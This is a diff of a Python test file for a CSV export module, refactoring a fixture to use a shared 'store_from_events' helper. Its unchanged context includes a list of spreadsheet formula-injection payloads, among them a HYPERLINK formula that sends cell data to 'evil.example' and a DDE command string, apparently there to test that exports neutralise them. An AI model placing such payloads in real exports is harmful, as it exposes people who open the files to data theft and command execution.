@@ -10,10 +10,9 @@ import duckdb
 import pandas as pd
 import pytest
 
-from ingest.store import Store
 from queries.export import _wrapped_select, csv_bytes_from_frame, export, export_bytes
 from queries.filters import Filters
-from tests.conftest import run_cli
+from tests.conftest import run_cli, store_from_events
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
             "\tleading tab", "\rcarriage", "\nline feed", "plain name"]
@@ -34,15 +33,8 @@ def _event(i: int, name: str, duration: int) -> dict:
 @pytest.fixture(scope="module")
 def payload_db(tmp_path_factory) -> str:
     root = tmp_path_factory.mktemp("payload")
-    ndjson = root / "events.ndjson"
     events = [_event(i, name, -5 if i == 0 else 100 + i) for i, name in enumerate(PAYLOADS)]
-    ndjson.write_text("\n".join(json.dumps(e) for e in events) + "\n", encoding="utf-8")
-    db = str(root / "payload.duckdb")
-    with Store.open(db) as store:
-        run_id = store.start_run("files")
-        store.load_clean_ndjson(ndjson, run_id=run_id)
-        store.finish_run(run_id, "success")
-    return db
+    return store_from_events(root, "payload", events)
 
 
 def _rows(data: bytes) -> list[dict]:
